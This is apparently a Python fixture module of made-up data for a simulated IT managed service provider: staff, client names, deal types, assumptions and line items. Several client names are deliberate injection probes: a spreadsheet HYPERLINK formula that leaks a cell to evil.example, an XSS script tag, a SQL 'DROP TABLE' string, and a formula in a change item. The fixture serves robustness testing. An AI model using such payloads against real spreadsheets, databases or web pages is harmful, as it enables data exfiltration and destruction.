"""Words of the simulated MSP: people, clients, texts. Some clients carry text that breaks careless readers.

No logic and no chance here. The hostile texts are real risks: formulas in spreadsheets, markup in reports, right-to-left
marks, quotes that end a SQL or CSV field too early.
"""

from __future__ import annotations

SALES_PEOPLE: tuple[tuple[str, str], ...] = (
    ("Alice Archer", "Sales North"),
    ("Ben Okafor", "Sales North"),
    ("Siobhán O'Connor", "Sales North"),
    ("Dmitri Volkov", "Sales South"),
    ("Elena Rossi", "Sales South"),
    ("Frank Müller", "Sales South"),
    ("Grace Lee", "Sales Enterprise"),
    ("Harold Finch", "Sales Enterprise"),
)
DISABLED_PERSON = "Harold Finch"
# They sell below the floor now and then; the oracle finds them by their deals' margins, not by name.
CARELESS_SELLERS: frozenset[str] = frozenset({"Ben Okafor", "Frank Müller"})

DELIVERY_PEOPLE: tuple[str, ...] = (
    "Ivy Chen",
    "Jack Turner",
    "Karim Haddad",
    "Laura Svensson",
    "Mohammed Ali",
    "Nina Novak",
    "Oscar Diaz",
    "Priya Patel",
)
# HaloPSA holds no cost price for these two.
UNCOSTED_PEOPLE: frozenset[str] = frozenset({"Oscar Diaz", "Priya Patel"})
SERVICE_DESK_PERSON = "Quentin Blake"

CLIENTS: tuple[str, ...] = (
    "Northgate Dental Group",
    "Harbour Freight Ltd",
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "Bluebell Care Homes",
    "<script>alert('halo')</script> Ltd",
    "Crown & Anchor Hotels",
    'O\'Neill "Builders" & Sons',
    "Café Zoë 🚀",
    "شركة الأفق",
    "Kestrel Logistics",
    "Silverdale Academy Trust",
    "Mill Lane Surgery",
    "Parker Whitfield LLP",
    "Ashford Precision Engineering",
    "+44 Telecom",
    "Oakhurst Estates",
    "Redwood Recruitment",
    "Tidewater Marine",
    "Granite City Foods",
    "Lakeside Veterinary",
    "Robert'); DROP TABLE clients;--",
    "Beacon Housing",
    "Fenwick Textiles",
    "Highfield Farms",
    "Summit Accountancy",
)
# A client that was given up: HaloPSA keeps it, inactive.
INACTIVE_CLIENT = "Fenwick Textiles"

DEAL_TYPES: dict[str, tuple[str, ...]] = {
    "Managed Service Onboarding": ("Onboarding Standard", "Onboarding Premium"),
    "Infrastructure Project": ("Server Refresh", "Network Refresh"),
    "Cloud Migration": ("Microsoft 365 Migration", "Azure Landing Zone"),
    "Security Project": ("Security Baseline", "Firewall Replacement"),
}
DEAL_NOUNS: dict[str, tuple[str, ...]] = {
    "Managed Service Onboarding": ("managed service onboarding", "service desk takeover"),
    "Infrastructure Project": ("server room refresh", "campus network renewal", "backup renewal"),
    "Cloud Migration": ("mail migration to Microsoft 365", "file server to SharePoint", "Azure landing zone"),
    "Security Project": ("security baseline", "firewall replacement", "multi-factor roll-out"),
}
OTHER_NOUNS: tuple[str, ...] = ("office move", "telephony review", "intranet relaunch")

ASSUMPTIONS: tuple[str, ...] = (
    "The client keeps at least one administrator available during every migration weekend",
    "All user devices run a supported version of Windows before work begins",
    "Existing licences cover the seats that are named in the quotation",
    "Site access is granted outside office hours for the cut-over",
    "The present supplier hands over its documentation within ten working days",
    "No line-of-business application needs more than one hour of downtime",
    "Data to be migrated does not exceed two terabytes in all",
)
DEPENDENCIES: tuple[str, ...] = (
    "Client orders the new internet line before week two",
    "Supplier delivers switches to site by the agreed date",
    "Client names an owner for each shared mailbox",
    "Cabling contractor finishes both floors beforehand",
)
CRITERIA: tuple[str, ...] = (
    "All users sign in with the new accounts and read their mail",
    "Backups of every server restore in a test witnessed by the client",
    "The client signs the acceptance form after five days without a priority one incident",
    "Penetration test shows no finding above medium severity",
)
FEASIBILITY: tuple[str, ...] = ("Feasible as scoped", "Feasible, cut-over at the weekend only", "Feasible with a second engineer on site")
RESOURCE_PLANS: tuple[str, ...] = (
    "One lead and one engineer, four days a week",
    "Lead only, remote",
    "Two engineers on site for the first week",
)

THIRD_PARTY: tuple[tuple[str, int, int], ...] = (
    ("Firewall appliance", 1450, 2),
    ("48-port switch", 890, 4),
    ("Wireless access point", 310, 12),
    ("Host server", 5200, 2),
    ("Backup appliance", 2750, 1),
    ("Structured cabling by subcontractor", 3400, 1),
    ("Migration tool licences", 12, 85),
)
RECURRING: tuple[tuple[str, int, int], ...] = (
    ("Managed endpoint per seat", 18, 2),
    ("Backup per server", 45, 2),
    ("Security awareness training", 900, 3),
    ("Firewall support", 240, 4),
)
TASKS: tuple[str, ...] = ("Discovery and design", "Build and configure", "Cut-over and handover")
CHANGES: tuple[str, ...] = (
    "Add a second site",
    "Twenty more mailboxes",
    "Replace printers that were not in scope",
    "Extra weekend of cut-over support",
    "Rework of the firewall rules",
    "Undocumented legacy application",
    "=1+1 extra switches",
)
